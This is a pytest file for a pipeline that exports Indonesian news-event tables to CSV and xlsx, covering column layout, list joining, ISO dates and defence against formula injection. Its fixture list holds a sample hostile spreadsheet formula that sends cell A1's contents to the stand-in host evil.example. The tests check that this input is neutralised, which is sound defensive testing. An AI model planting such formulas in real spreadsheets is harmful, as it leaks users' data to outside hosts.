"""pipeline.export on a real run over corpus/: one CSV per table or one workbook with a sheet per
table, list columns joined with " | ", dates as ISO text."""
from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from pipeline.export import LIST_SEPARATOR, WORKBOOK, export, flatten
from pipeline.records import ISO_LENGTH
from pipeline.tables import load

ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
ISO_AT_PRECISION = re.compile(r"^\d{4}(-\d{2}(-\d{2})?)?$")  # 2017, 2022-03, 2022-03-05


@pytest.fixture(scope="module")
def out(corpus_out) -> Path:
    return corpus_out


@pytest.fixture(scope="module")
def tables(out):
    return load(out)


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_one_file_per_table(out, tables, tmp_path):
    written = export(out, tmp_path, "csv")
    assert sorted(p.name for p in written) == sorted(f"{t}.csv" for t in tables.present)
    for table in tables.present:
        rows = read_csv(tmp_path / f"{table}.csv")
        assert len(rows) == len(getattr(tables, table)), table
        assert list(rows[0]) == list(getattr(tables, table).columns), table


def test_csv_lists_and_dates(out, tables, tmp_path):
    export(out, tmp_path, "csv")
    events = {r["event_id"]: r for r in read_csv(tmp_path / "events.csv")}
    for e in tables.events.itertuples():
        row = events[e.event_id]
        assert row["scope"] == LIST_SEPARATOR.join(e.scope)
        assert row["province_codes"] == LIST_SEPARATOR.join(e.province_codes)
        assert "[" not in row["parties"] and "'" not in row["province_codes"]
        assert row["event_date"] == ("" if pd.isna(e.event_date) else
                                     e.event_date.strftime("%Y-%m-%d")[:ISO_LENGTH[e.date_precision]])
    assert any(" | " in r["scope"] for r in events.values())  # some event has several scope points
    docs = read_csv(tmp_path / "documents.csv")
    assert all(ISO_DATE.match(d["published_date"]) for d in docs if d["published_date"])
    assert {d["status"] for d in docs} == {"ok", "no_event"}


def test_a_signing_date_is_written_at_its_precision():
    """A year or a month is all some texts say: "2017", "2022-03", not a first of January or March."""
    events = pd.DataFrame({
        "event_date": pd.to_datetime(["2017-01-01", "2022-03-01", "2022-03-05", None]),
        "date_precision": pd.Categorical(["year", "month", "day", None]),
        "published_date": pd.to_datetime(["2017-05-02", "2022-03-20", "2022-03-06", "2022-03-06"]),
    })
    flat = flatten(events)
    assert list(flat["event_date"]) == ["2017", "2022-03", "2022-03-05", None]
    assert list(flat["published_date"]) == ["2017-05-02", "2022-03-20", "2022-03-06", "2022-03-06"]


def test_xlsx_one_sheet_per_table(out, tables, tmp_path):
    import openpyxl

    (path,) = export(out, tmp_path, "xlsx")
    assert path.name == WORKBOOK
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == [t for t in ("documents", "events", "people", "scores", "agreements", "runs")
                               if t in tables.present]
    rows = list(book["events"].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert list(header) == list(tables.events.columns) and len(body) == len(tables.events)
    col = {name: i for i, name in enumerate(header)}
    dates = [(r[col["event_date"]], r[col["date_precision"]]) for r in body if r[col["event_date"]]]
    assert dates and all(ISO_AT_PRECISION.match(d) and len(d) == ISO_LENGTH[p] for d, p in dates)
    assert any(LIST_SEPARATOR in (r[col["scope"]] or "") for r in body)
    people = list(book["people"].iter_rows(values_only=True))
    assert len(people) - 1 == len(tables.people)
    assert "gubernur" in {r[people[0].index("role")] for r in people[1:]}


def test_unknown_format(out, tmp_path):
    with pytest.raises(ValueError, match="csv, xlsx"):
        export(out, tmp_path, "json")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 811 555", "-Berita terkini", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def formula_out(tmp_path) -> Path:
    """Titles and names a web page could carry, that a spreadsheet would run as formulas."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from pipeline.writers import SCHEMAS

    out = tmp_path / "out"
    tables = {
        "documents": [dict(doc_id=f"d{n}", source=f"feed.jsonl#{n}", title=t, status="no_event", n_events=0)
                      for n, t in enumerate(FORMULAS + ["Judul biasa"])],
        "people": [dict(doc_id="d0", name="=1+1", title="Gubernur", role="gubernur", start_char=0, end_char=3)],
        "scores": [dict(doc_id="d0", subject="Pemprov", value=-1.5, kind="achieved", evidence="-")],
    }
    for table, rows in tables.items():
        (out / table).mkdir(parents=True)
        pq.write_table(pa.Table.from_pylist(rows, schema=SCHEMAS[table]), out / table / "part-0.parquet")
    return out


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(formula_out, tmp_path):
    export(formula_out, tmp_path / "csv", "csv")
    titles = [r["title"] for r in read_csv(tmp_path / "csv" / "documents.csv")]
    assert titles == ["'" + t for t in FORMULAS] + ["Judul biasa"]
    assert [r["name"] for r in read_csv(tmp_path / "csv" / "people.csv")] == ["'=1+1"]
    (score,) = read_csv(tmp_path / "csv" / "scores.csv")
    assert (score["value"], score["evidence"]) == ("-1.5", "'-")  # a number stays a number


def test_xlsx_cells_that_would_be_formulas_are_text(formula_out, tmp_path):
    import openpyxl

    (path,) = export(formula_out, tmp_path, "xlsx")
    book = openpyxl.load_workbook(path)
    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas
    docs = list(book["documents"].iter_rows(values_only=True))
    col = docs[0].index("title")
    assert [r[col] for r in docs[1:]] == FORMULAS + ["Judul biasa"]  # the text itself, unchanged
    people = list(book["people"].iter_rows(values_only=True))
    assert people[1][people[0].index("name")] == "=1+1"
